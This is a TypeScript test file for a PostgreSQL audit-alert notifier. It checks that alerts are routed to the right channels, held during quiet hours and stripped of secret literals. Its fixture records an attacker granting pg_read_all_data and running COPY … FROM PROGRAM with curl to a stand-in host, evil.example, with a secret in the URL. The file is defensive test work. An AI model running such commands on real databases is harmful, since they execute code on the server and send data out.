import assert from 'node:assert/strict';
import { describe, it, type TestContext } from 'node:test';
import { CHANNEL_EVENTS } from '../../src/alerts/channels/channel.ts';
import type { AlertMessage } from '../../src/alerts/message.ts';
import { Notifier, type NotifierOptions } from '../../src/alerts/notifier.ts';
import type { Route } from '../../src/alerts/routing.ts';
import { bindParameters } from '../../src/detect/parameters.ts';
import type { Store } from '../../src/store/store.ts';
import { Detection } from '../../src/worker/detection.ts';
import { audited, detectorOf, signIn, T0, write } from '../detect/support.ts';
import { temporaryStore } from './support.ts';

const SOC: Route = { name: 'soc', minSeverity: 'info', events: CHANNEL_EVENTS };
const NIGHT = Date.parse('2026-03-02T23:00:00Z');

/** What P01 and E01 make of a grant and of COPY … PROGRAM with a secret in it. */
async function attacked(t: TestContext, options: NotifierOptions): Promise<Store> {
  const store = await temporaryStore(t);
  const who = { session: 's.1', user: 'mallory', client: '203.0.113.9' };
  await write(store, [
    ...signIn(T0, who),
    audited(T0 + 50, who, 'GRANT pg_read_all_data TO bob', { class: 'ROLE', command: 'GRANT ROLE' }),
    ...Array.from({ length: 12 }, (_, index) =>
      audited(T0 + 100 + index, who, `COPY t FROM PROGRAM 'curl https://evil.example/hunter2?n=${index}'`, {
        class: 'WRITE',
        command: 'COPY',
      }),
    ),
  ]);
  const detectors = await Promise.all(
    ['P01', 'E01'].map(async (id) => {
      const detector = await detectorOf(id);
      return { detector, values: bindParameters(detector), mode: 'on' as const };
    }),
  );
  const notifier = new Notifier(options);
  await new Detection({
    store,
    notifier,
    detectors,
    latenessMs: 0,
    timeoutMs: 30_000,
    now: () => NIGHT,
  }).finish();
  return store;
}

async function sent(store: Store): Promise<{ channel: string; state: string; message: AlertMessage }[]> {
  const rows = await store.rows<{ channel: string; state: string; body: string }>(
    'SELECT channel, state, body FROM store.outbox ORDER BY rowid',
  );
  return rows.map(({ channel, state, body }) => ({
    channel,
    state,
    message: JSON.parse(body) as AlertMessage,
  }));
}

describe('the notifier', () => {
  it('sends what the detector says, the most telling statements without their literals, and tags', async (t) => {
    const store = await attacked(t, { routes: [SOC], serverTags: { prod: ['*'] } });
    const { data } = (await sent(store)).find(({ message }) => message.data.detector === 'E01')!.message;
    const detector = await detectorOf('E01');
    assert.equal(data.why, detector.why);
    assert.deepEqual(data.attack, detector.attack);
    assert.deepEqual(data.tags, ['prod', 'execution', 'exec']);
    assert.deepEqual(data.statements, ['COPY t FROM PROGRAM $1']);
    assert.deepEqual([data.count, data.evidence.length], [12, 5]);
    assert.ok(!JSON.stringify(await sent(store)).includes('hunter2'));
  });

  it('routes each alert, and gathers for a channel what is to wait', async (t) => {
    const routes: Route[] = [
      { ...SOC, name: 'grants', detectors: ['privilege.*', 'P01'] },
      { ...SOC, name: 'nobody', servers: ['other-*'] },
      {
        ...SOC,
        name: 'asleep',
        quietHours: {
          from: '22:00',
          to: '06:00',
          timeZone: 'UTC',
          days: ['mon'],
          below: 'critical',
        },
      },
    ];
    const store = await attacked(t, { routes });
    const told = (await sent(store)).map(
      ({ channel, state, message }) => `${channel} ${message.data.detector} ${state}`,
    );
    const severities = await store.rows<{ detector: string; severity: string }>(
      'SELECT detector, severity FROM alerts',
    );
    const asleep = severities.map(
      ({ detector, severity }) => `asleep ${detector} ${severity === 'critical' ? 'pending' : 'gathered'}`,
    );
    assert.deepEqual(told.sort(), [...asleep, 'grants P01 pending'].sort());
  });

  it('writes the history down where no channel is', async (t) => {
    const store = await attacked(t, { routes: [] });
    assert.deepEqual(await sent(store), []);
    assert.deepEqual(
      await store.rows('SELECT action, actor, via, count(*) AS n FROM alert_history GROUP BY ALL'),
      [{ action: 'opened', actor: 'pgvigil', via: 'worker', n: 2n }],
    );
  });
});
